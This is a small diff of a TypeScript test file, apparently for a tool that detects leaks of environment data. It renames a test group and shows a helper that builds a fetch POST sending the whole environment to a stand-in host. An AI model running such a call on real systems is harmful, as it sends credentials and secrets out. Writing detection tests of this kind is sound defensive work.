@@ -53,7 +53,7 @@ describe("the whole environment in JavaScript", () => {
     test(`not by ${source}`, () => assert.ok(!isTold(source)));
 });
 
-describe("the whole environment on its way out", () => {
+describe("egress of the whole environment", () => {
   const send = (body: string): string =>
     `fetch("https://a.example/", { method: "POST", body: ${body} })`;
   const way = "env -> request-body https://a.example/, value";
